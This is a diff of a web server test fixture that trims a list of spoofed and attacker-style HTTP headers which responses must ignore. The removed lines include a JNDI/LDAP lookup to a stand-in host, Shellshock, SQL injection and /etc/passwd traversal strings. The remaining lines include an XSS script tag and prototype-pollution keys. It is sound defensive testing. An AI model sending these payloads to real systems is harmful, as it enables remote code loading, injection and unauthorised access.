@@ -14,21 +14,11 @@ afterAll(() => void server.close());
 
 /** What clients, proxies and attackers add, and what no response may depend on. */
 const FIELDS = `
-X-Forwarded-Host: evil.example | X-Forwarded-Port: 444 | X-Forwarded-Prefix: /evil | X-Host: evil.example
-X-Forwarded-Server: evil.example | X-Forwarded-Scheme: https | X-Forwarded-Proto: https
-X-Original-Host: evil.example | Forwarded: for=127.0.0.1;host=evil.example;proto=https
-X-Forwarded-For: 127.0.0.1 | X-Real-IP: 127.0.0.1 | True-Client-IP: 127.0.0.1
-X-Original-URL: /gtc | X-Rewrite-URL: /gtc | X-HTTP-Method-Override: POST | X-HTTP-Method: POST
-X-Method-Override: POST | Access-Control-Request-Method: DELETE | Origin: https://evil.example
-RSC: 1 | Next-Action: 1 | X-Nextjs-Data: 1 | Next-Router-State-Tree: evil | rsc-action-id: evil
-X-Middleware-Subrequest: middleware:middleware | Purpose: prefetch | X-Moz: prefetch | DNT: 1
-Sec-Purpose: prefetch;prerender | Sec-Fetch-Dest: empty | Sec-Fetch-Site: cross-site | Save-Data: on
-Accept-Language: en, de;q=0.5 | Cookie: cc_cookie=%7B%22categories%22%3A%5B%22analytics%22%5D%7D; session=a
-Authorization: Basic ZXZpbDpldmls | Referer: https://evil.example/pricing | User-Agent: Googlebot/2.1
-X-Requested-With: XMLHttpRequest | Pragma: no-cache | Content-Type: application/json | TE: trailers
-X-Request-Id: evil-1234 | X-Evil: <script>alert(1)</script> | X-Evil: ' OR 1=1 -- | X-Evil: () { :; }; echo
-X-Evil: \${jndi:ldap://evil.example/a} | X-Evil: ../../../../etc/passwd | __proto__: a | __proto__: b
-constructor: a | constructor: b | prototype: a | hasOwnProperty: a | toString: a | toString: b | valueOf: a`
+X-Forwarded-Host: evil.example | X-Forwarded-Proto: https | Forwarded: host=evil.example | X-Forwarded-For: 127.0.0.1
+X-Original-URL: /gtc | X-HTTP-Method-Override: POST | Origin: https://evil.example | Purpose: prefetch
+Accept-Language: en | Cookie: cc_cookie=%7B%22categories%22%3A%5B%22analytics%22%5D%7D | Authorization: Basic ZXZpbDpldmls
+Referer: https://evil.example | User-Agent: Googlebot/2.1 | Content-Type: application/json | Save-Data: on | RSC: 1
+X-Request-Id: evil-1234 | X-Evil: <script>alert(1)</script> | __proto__: a | constructor: a | toString: b`
   .trim()
   .split(/ \| |\n/);
 
